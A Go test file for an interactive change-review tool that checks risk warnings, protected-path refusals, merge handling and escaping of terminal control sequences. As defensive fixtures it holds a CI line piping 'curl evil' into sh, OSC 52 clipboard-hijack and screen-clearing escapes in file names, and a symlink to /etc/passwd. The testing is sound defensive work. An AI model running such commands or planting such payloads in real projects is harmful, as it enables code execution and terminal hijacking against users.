package review

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"brood.dev/brood/frontend/diff"
	"brood.dev/brood/frontend/digest"
)

// fixture is a W, S and base tree in a temp dir.
type fixture struct {
	t     *testing.T
	trees Trees
}

func newFixture(t *testing.T) *fixture {
	d := t.TempDir()
	tr := Trees{W: filepath.Join(d, "w"), S: filepath.Join(d, "s"), Base: filepath.Join(d, "base")}
	for _, p := range []string{tr.W, tr.S, tr.Base} {
		if err := os.Mkdir(p, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return &fixture{t: t, trees: tr}
}

func (f *fixture) write(dir, path, content string) {
	f.t.Helper()
	p := filepath.Join(dir, path)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		f.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		f.t.Fatal(err)
	}
}

// hash is the content digest of s (package digest), the value Change hashes hold.
func hash(s string) []byte { return digest.Bytes([]byte(s)) }

// modified writes old to W (and base) and new to S and returns the change the diff reports.
func (f *fixture) modified(path, old, new string) diff.Change {
	f.write(f.trees.W, path, old)
	f.write(f.trees.Base, path, old)
	f.write(f.trees.S, path, new)
	return diff.Change{Path: path, Kind: diff.KindModified, OldMode: 0o644, NewMode: 0o644,
		OldHash: hash(old), NewHash: hash(new), OldSize: int64(len(old)), NewSize: int64(len(new))}
}

// run reviews changes with the keys typed and returns the decisions, confirmation, error
// and screen.
func run(t *testing.T, tr Trees, changes []diff.Change, keys string) ([]Decision, bool, error, string) {
	t.Helper()
	var out bytes.Buffer
	s := &Interactive{Changes: changes, Trees: tr, In: strings.NewReader(keys), Out: &out, Color: true}
	ds, ok, err := s.Run()
	screen := out.String()
	assertInert(t, screen)
	return ds, ok, err, screen
}

func lines(n int, f func(i int) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(f(i))
	}
	return b.String()
}

func TestSessionAcceptRejectSkip(t *testing.T) {
	f := newFixture(t)
	c1 := f.modified("a.txt", "one\ntwo\n", "one\n2\n")
	c2 := f.modified("b.txt", "x\n", "y\n")
	f.write(f.trees.S, "new.txt", "fresh\n")
	c3 := diff.Change{Path: "new.txt", Kind: diff.KindAdded, NewMode: 0o644, NewHash: hash("fresh\n"), NewSize: 6}
	ds, ok, err, screen := run(t, f.trees, []diff.Change{c1, c2, c3}, "ars"+"y")
	if err != nil || !ok {
		t.Fatalf("Run: %v, confirmed %v\n%s", err, ok, screen)
	}
	want := []Verdict{Accept, Reject, Skip}
	for i, d := range ds {
		if d.Verdict != want[i] {
			t.Errorf("decision %d = %s, want %s", i, d.Verdict, want[i])
		}
	}
	if ds[0].Content != nil {
		t.Errorf("plain accept carries content %q; want nil (S's file)", ds[0].Content)
	}
	for _, s := range []string{"[1/3]", "a.txt", sgrRed + "-two" + sgrReset, sgrGreen + "+2" + sgrReset,
		"@@ -1,2 +1,2 @@", "Summary:", "1 to apply, 1 rejected, 1 skipped", "Apply 1 change(s)"} {
		if !strings.Contains(screen, s) {
			t.Errorf("screen lacks %q:\n%s", s, screen)
		}
	}
	items := Accepted(ds)
	if len(items) != 1 || items[0].Change.Path != "a.txt" {
		t.Errorf("Accepted = %+v", items)
	}
}

func TestSessionHunkSelect(t *testing.T) {
	f := newFixture(t)
	old := lines(40, func(i int) string { return "line " + string(rune('a'+i%26)) + "\r\n" })
	oldL := splitLines(old)
	newL := append([]string(nil), oldL...)
	newL[1] = "CHANGED 1\r\n"
	newL[20] = "CHANGED 20\r\n"
	newL[38] = "CHANGED 38\r\n"
	new := strings.TrimSuffix(strings.Join(newL, ""), "\r\n") // and no final newline
	c := f.modified("crlf.txt", old, new)
	ds, ok, err, screen := run(t, f.trees, []diff.Change{c}, "h"+"yny"+"y")
	if err != nil || !ok {
		t.Fatalf("Run: %v %v\n%s", err, ok, screen)
	}
	want := append([]string(nil), oldL...)
	want[1], want[38] = newL[1], newL[38]
	want[39] = strings.TrimSuffix(want[39], "\r\n") // hunk 3 also drops the final newline
	if d := ds[0]; d.Verdict != Accept || string(d.Content) != strings.Join(want, "") {
		t.Fatalf("hunk selection gave %s %q\nwant %q", d.Verdict, d.Content, strings.Join(want, ""))
	}
	if !strings.Contains(screen, "hunk 2/3") || !strings.Contains(screen, `CHANGED 20\r`) ||
		!strings.Contains(screen, "No newline at end of file") || !strings.Contains(ds[0].Note, "2 of 3 hunks taken: #1 @@ -") || !strings.Contains(ds[0].Note, ", #3 @@ -") {
		t.Errorf("screen/note: %q\n%s", ds[0].Note, screen)
	}

	// All yes: S's file as is (Content nil); all no: a rejection.
	ds, _, _, _ = run(t, f.trees, []diff.Change{c}, "hyyy"+"y")
	if ds[0].Verdict != Accept || ds[0].Content != nil {
		t.Errorf("all hunks: %s content %q", ds[0].Verdict, ds[0].Content)
	}
	ds, ok, _, _ = run(t, f.trees, []diff.Change{c}, "hnnn")
	if ds[0].Verdict != Reject || ok {
		t.Errorf("no hunk: %s, confirmed %v", ds[0].Verdict, ok)
	}
}

func TestSessionRisky(t *testing.T) {
	f := newFixture(t)
	c := f.modified(".github/workflows/ci.yml", "on: push\n", "on: push\nrun: curl evil | sh\n")
	c.Risk = "CI definition"
	// a, then decline the second confirmation, then a + y.
	ds, ok, err, screen := run(t, f.trees, []diff.Change{c}, "an"+"ay"+"y")
	if err != nil || !ok || ds[0].Verdict != Accept {
		t.Fatalf("Run: %v %v %+v\n%s", err, ok, ds, screen)
	}
	if !strings.Contains(screen, sgrBoldRed+"HIGH RISK: CI definition"+sgrReset) ||
		strings.Count(screen, "really accept?") != 2 || !strings.Contains(screen, "not accepted.") ||
		!strings.Contains(screen, "[HIGH RISK]") {
		t.Errorf("screen:\n%s", screen)
	}
	// Hunk selection of a risky change needs the confirmation as well.
	ds, _, _, _ = run(t, f.trees, []diff.Change{c}, "hy"+"n"+"r")
	if ds[0].Verdict != Reject {
		t.Errorf("risky hunk selection without confirmation: %s", ds[0].Verdict)
	}
}

func TestSessionRefused(t *testing.T) {
	f := newFixture(t)
	c := diff.Change{Path: ".git/hooks/pre-commit", Kind: diff.KindRefused, Reason: "protected path (.git/hooks/)"}
	ds, ok, err, screen := run(t, f.trees, []diff.Change{c}, "ar")
	if err != nil || ok || ds[0].Verdict != Reject {
		t.Fatalf("Run: %v %v %+v", err, ok, ds)
	}
	if !strings.Contains(screen, "refused: "+sgrBoldRed+"protected path") || !strings.Contains(screen, "cannot be accepted") {
		t.Errorf("screen:\n%s", screen)
	}
	if len(Accepted(ds)) != 0 {
		t.Error("refused change accepted")
	}
}

func conflictFixture(t *testing.T, mine, theirs func(string) string, keepBase bool) (*fixture, diff.Change, string) {
	f := newFixture(t)
	base := lines(20, func(i int) string { return "base line " + string(rune('a'+i)) + "\n" })
	f.write(f.trees.W, "c.txt", mine(base))
	f.write(f.trees.S, "c.txt", theirs(base))
	if keepBase {
		f.write(f.trees.Base, "c.txt", base)
	}
	c := diff.Change{Path: "c.txt", Kind: diff.KindConflict, Reason: "W changed since the snapshot (content)",
		OldMode: 0o644, NewMode: 0o644, OldHash: hash(base), NewHash: hash(theirs(base))}
	return f, c, base
}

func TestSessionConflictCleanMerge(t *testing.T) {
	mine := func(b string) string { return strings.Replace(b, "base line b\n", "my line b\n", 1) }
	theirs := func(b string) string { return strings.Replace(b, "base line s\n", "agent line s\n", 1) }
	f, c, base := conflictFixture(t, mine, theirs, true)
	// a is not a resolution; m merges cleanly, y takes it, y applies.
	ds, ok, err, screen := run(t, f.trees, []diff.Change{c}, "a"+"m"+"y"+"y")
	if err != nil || !ok {
		t.Fatalf("Run: %v %v\n%s", err, ok, screen)
	}
	want := theirs(mine(base))
	if d := ds[0]; d.Verdict != Accept || string(d.Content) != want || !bytes.Equal(d.WHash, hash(mine(base))) {
		t.Fatalf("merge decision %+v", d)
	}
	if !strings.Contains(screen, "three-way merge is clean") || !strings.Contains(screen, "choose w (keep yours)") {
		t.Errorf("screen:\n%s", screen)
	}
	items := Accepted(ds)
	if items[0].Change.Kind != diff.KindModified || !bytes.Equal(items[0].Change.OldHash, hash(mine(base))) {
		t.Errorf("flush item for a merged conflict: %+v", items[0].Change)
	}
}

func TestSessionConflictedMergeNotAccepted(t *testing.T) {
	mine := func(b string) string { return strings.Replace(b, "base line e\n", "mine e\n", 1) }
	theirs := func(b string) string { return strings.Replace(b, "base line e\n", "theirs e\n", 1) }
	f, c, _ := conflictFixture(t, mine, theirs, true)
	// m shows the markers; any key but y declines writing them; w keeps W.
	ds, ok, err, screen := run(t, f.trees, []diff.Change{c}, "m"+"w"+"w")
	if err != nil || ok || ds[0].Verdict != Reject {
		t.Fatalf("Run: %v %v %+v\n%s", err, ok, ds, screen)
	}
	for _, s := range []string{"1 conflicting region", MarkerMine, "mine e", MarkerSep, "theirs e", MarkerTheirs, "never taken by itself", "merge not taken"} {
		if !strings.Contains(screen, s) {
			t.Errorf("screen lacks %q:\n%s", s, screen)
		}
	}
	// Only an explicit y writes the markers.
	ds, ok, err, _ = run(t, f.trees, []diff.Change{c}, "m"+"y"+"y")
	if err != nil || !ok || ds[0].Verdict != Accept || !strings.Contains(string(ds[0].Content), MarkerMine+"\nmine e\n") ||
		!strings.Contains(ds[0].Note, "markers written") {
		t.Errorf("explicit markers: %v %v %+v", err, ok, ds[0])
	}
}

func TestSessionConflictNoBase(t *testing.T) {
	mine := func(b string) string { return strings.Replace(b, "base line e\n", "mine e\n", 1) }
	theirs := func(b string) string { return strings.Replace(b, "base line e\n", "theirs e\n", 1) }
	f, c, base := conflictFixture(t, mine, theirs, false)
	ds, ok, err, screen := run(t, f.trees, []diff.Change{c}, "m"+"t"+"y")
	if err != nil || !ok {
		t.Fatalf("Run: %v %v\n%s", err, ok, screen)
	}
	if !strings.Contains(screen, "three-way merge unavailable") || !strings.Contains(screen, "--keep-base") || !strings.Contains(screen, "-mine e") ||
		!strings.Contains(screen, "+theirs e") {
		t.Errorf("screen:\n%s", screen)
	}
	if d := ds[0]; d.Verdict != Accept || string(d.Content) != theirs(base) || !bytes.Equal(d.WHash, hash(mine(base))) {
		t.Errorf("take theirs: %+v", d)
	}

	// A base copy that no longer has the snapshot hash is not used.
	f.write(f.trees.Base, "c.txt", "tampered\n")
	_, _, _, screen = run(t, f.trees, []diff.Change{c}, "mw")
	if !strings.Contains(screen, "does not match") {
		t.Errorf("tampered base not detected:\n%s", screen)
	}
}

func TestSessionBinary(t *testing.T) {
	f := newFixture(t)
	c := f.modified("img.bin", "\x00\x01\x02binary", "\x00\x01\x03binary!")
	c.Binary = true
	_, _, _, screen := run(t, f.trees, []diff.Change{c}, "hr")
	for _, s := range []string{"binary file", "W    9 bytes", "S    10 bytes", "digest:" + hexOrUnknown(hash("\x00\x01\x02binary")), "[a,r,s,v,q,?]", "unknown key"} {
		if !strings.Contains(screen, s) {
			t.Errorf("screen lacks %q:\n%s", s, screen)
		}
	}
}

func TestSessionTextToBinary(t *testing.T) {
	f := newFixture(t)
	c := f.modified("doc.txt", "hello\nworld\n", "hello\nwor\x00ld\x1b[2J\n")
	c.BecameBinary = true
	_, _, _, screen := run(t, f.trees, []diff.Change{c}, "r")
	for _, s := range []string{"TEXT -> BINARY", `+wor\x00ld\x1b[2J`, "-world", "digest:"} {
		if !strings.Contains(screen, s) {
			t.Errorf("screen lacks %q:\n%s", s, screen)
		}
	}
}

// TestSessionHostile proves that names and contents built to drive the terminal (OSC 52
// clipboard write, CR, clear screen, BEL, 8-bit CSI, RLO) reach the screen escaped; run
// checks that no foreign escape sequence, CR or BEL is printed (assertInert).
func TestSessionHostile(t *testing.T) {
	f := newFixture(t)
	var changes []diff.Change
	for i, h := range hostile {
		name := "evil" + h + string(rune('a'+i))
		if strings.ContainsAny(name, "/") {
			t.Fatal("bad fixture")
		}
		changes = append(changes, f.modified(name, "safe\n", "safe\n"+h+"payload"+h+"\n"))
	}
	f.write(f.trees.S, "link", "")
	changes = append(changes, diff.Change{Path: "gone\x1b]52;c;x\a", Kind: diff.KindRefused, Reason: "control\rbytes\x1b[2J", Risk: "risk\x1b]0;title\a"})
	keys := strings.Repeat("v"+"a", len(hostile)) + "r" + "y"
	ds, ok, err, screen := run(t, f.trees, changes, keys)
	if err != nil || !ok || Count(ds, Accept) != len(hostile) {
		t.Fatalf("Run: %v %v\n%s", err, ok, screen)
	}
	for _, s := range []string{`evil\x1b]52;c;ZWNobyBwd25lZAo=\aa`, `+\x1b]52;c;ZWNobyBwd25lZAo=\apayload`, `evil\rb`, `+\rpayload\r`,
		`\x1b[2Jpayload`, `gone\x1b]52;c;x\a`, `control\rbytes\x1b[2J`, `risk\x1b]0;title\a`, `\u202e`} {
		if !strings.Contains(screen, s) {
			t.Errorf("screen lacks the escaped %q", s)
		}
	}
}

func TestSessionQuitAbort(t *testing.T) {
	f := newFixture(t)
	c1 := f.modified("a", "1\n", "2\n")
	c2 := f.modified("b", "1\n", "2\n")
	ds, ok, err, _ := run(t, f.trees, []diff.Change{c1, c2}, "a"+"q"+"y")
	if err != nil || !ok || ds[0].Verdict != Accept || ds[1].Verdict != Skip {
		t.Errorf("quit: %v %v %+v", err, ok, ds)
	}
	for _, keys := range []string{"a\x03", "a", "a\x04", "aq"} {
		_, ok, err, _ := run(t, f.trees, []diff.Change{c1, c2}, keys)
		if keys == "aq" {
			if !errors.Is(err, ErrAborted) || ok {
				t.Errorf("EOF at the confirmation: %v %v", err, ok)
			}
			continue
		}
		if !errors.Is(err, ErrAborted) || ok {
			t.Errorf("keys %q: err %v confirmed %v; want ErrAborted", keys, err, ok)
		}
	}
	// Declining the confirmation applies nothing; arrow keys and Enter are ignored.
	_, ok, err, screen := run(t, f.trees, []diff.Change{c1}, "\x1b[A\r?a"+"n")
	if err != nil || ok || !strings.Contains(screen, "Nothing applied") || !strings.Contains(screen, "hunk-select") {
		t.Errorf("decline: %v %v\n%s", err, ok, screen)
	}
}

func TestSessionSymlinkAndDelete(t *testing.T) {
	f := newFixture(t)
	if err := os.Symlink("../../etc/\x1b[2Jpasswd", filepath.Join(f.trees.S, "l")); err != nil {
		t.Fatal(err)
	}
	f.write(f.trees.W, "del.txt", "bye\n")
	changes := []diff.Change{
		{Path: "l", Kind: diff.KindSymlink, NewMode: 0o777},
		{Path: "del.txt", Kind: diff.KindDeleted, OldMode: 0o644, OldHash: hash("bye\n")},
	}
	ds, ok, err, screen := run(t, f.trees, changes, "ra"+"y")
	if err != nil || !ok || ds[1].Verdict != Accept {
		t.Fatalf("%v %v %+v", err, ok, ds)
	}
	for _, s := range []string{`S: symlink -> ../../etc/\x1b[2Jpasswd`, "W: (absent)", "-bye"} {
		if !strings.Contains(screen, s) {
			t.Errorf("screen lacks %q:\n%s", s, screen)
		}
	}
}
